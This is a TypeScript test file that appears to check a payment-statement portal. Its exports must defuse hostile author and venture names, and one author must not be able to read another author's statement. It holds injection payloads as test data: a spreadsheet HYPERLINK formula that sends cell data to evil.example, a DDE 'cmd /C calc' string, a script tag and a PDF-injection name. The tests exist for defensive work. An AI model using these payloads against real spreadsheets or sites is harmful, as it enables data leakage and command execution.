import { parseStatement } from '@portal/statement-proof';
import { MoneyWorld, type PaidAuthor } from '../support/money/money-world.js';

const DRIVE = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
const VENTURE = "\u202e@SUM(1+1)*cmd|' /C calc'!A0\"\r\n<script>alert(1)</script>";
const world = MoneyWorld.forTests();
let hostile: PaidAuthor;
let other: PaidAuthor;
let id: string;
let foreign: string;

beforeAll(async () => {
  hostile = await world.author({ name: '+cmd) Tj ET (' });
  other = await world.author();
  for (const author of [hostile, other])
    await world.segment({
      orgId: author.orgId,
      from: '2026-01-01T00:00:00Z',
      amount: 9_000n,
      driveName: DRIVE,
      ventureName: VENTURE,
    });
  await world.month('2026-01');
  id = (await world.statementOf(hostile, '2026-01')).id;
  foreign = (await world.statementOf(other, '2026-01')).id;
});

describe('Case 28: names that contain code, and statements of somebody else', () => {
  it('CSV contains hostile names so that no spreadsheet computes them', async () => {
    const csv = await world.file(hostile.session, `/author/statements/${id}/csv`);
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")"`);
    expect(csv).toContain('U+202E@SUM');
    expect(csv).not.toContain('\u202e');
    for (const row of csv.split('\r\n')) expect(row).not.toMatch(/(^|,)"?[=+@]/);
  });

  it('JSON contains hostile names unchanged, and PDF as text', async () => {
    const document = parseStatement(await world.file(hostile.session, `/author/statements/${id}/json`));
    expect(document.lines[0]).toMatchObject({ drive_name: DRIVE, venture_name: VENTURE });
    const pdf = await world.file(hostile.session, `/author/statements/${id}/pdf`);
    for (const token of ['/JavaScript', '/OpenAction', '/URI', 'evil.example']) expect(pdf).not.toContain(token);
  });

  it('every form is a download that no browser shows as a page', async () => {
    for (const [form, type] of [
      ['csv', 'text/csv; charset=utf-8'],
      ['json', 'application/json; charset=utf-8'],
      ['pdf', 'application/pdf'],
    ]) {
      const { headers } = await world.read(hostile.session, `/author/statements/${id}/${form}`);
      expect(headers['content-type']).toBe(type);
      expect(headers['content-disposition']).toBe(`attachment; filename="SANDBOX-statement-2026-01-usd.${form}"`);
      expect(headers['x-content-type-options']).toBe('nosniff');
    }
  });

  it('a statement of another author is answered 404, the same as one that does not exist', async () => {
    const nobody = '0190a000-0000-7000-8000-00000000dead';
    for (const path of ['', '/csv', '/json', '/pdf', '/verify']) {
      const [theirs, none] = [
        await world.read(hostile.session, `/author/statements/${foreign}${path}`),
        await world.read(hostile.session, `/author/statements/${nobody}${path}`),
      ];
      expect([theirs.status, theirs.error]).toEqual([404, 'statement_not_found']);
      expect([none.status, none.error]).toEqual([404, 'statement_not_found']);
      expect((await world.read(hostile.session, `/finance/statements/${foreign}${path}`)).status).toBe(403);
    }
    const list = await world.read(hostile.session, '/author/statements');
    expect(list.body).toContain(id);
    expect(list.body).not.toContain(foreign);
    expect(list.body).not.toContain(other.orgId);
  });

  it('the proof reveals nothing of the other author', async () => {
    const text = await world.file(hostile.session, `/author/statements/${id}/json`);
    const { proof } = parseStatement(text);
    expect(proof!.size).toBe(2);
    for (const secret of [other.orgId, other.name, foreign]) expect(text).not.toContain(secret);
  });
});
